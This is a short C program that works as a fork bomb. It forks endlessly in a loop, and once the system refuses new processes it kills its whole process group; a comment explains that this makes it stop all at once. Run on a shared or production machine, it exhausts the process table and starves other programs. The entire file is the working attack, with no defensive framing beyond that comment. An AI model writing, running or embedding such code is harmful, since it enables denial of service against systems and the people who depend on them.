#include <errno.h>
#include <signal.h>
#include <unistd.h>

/* Doubles until a fork is refused, and then ends all at once: a bomb that goes on replaces the dead for ever. */
int main(void) {
    for (;;) {
        if (fork() == -1 && errno == EAGAIN) kill(0, SIGKILL);
    }
}
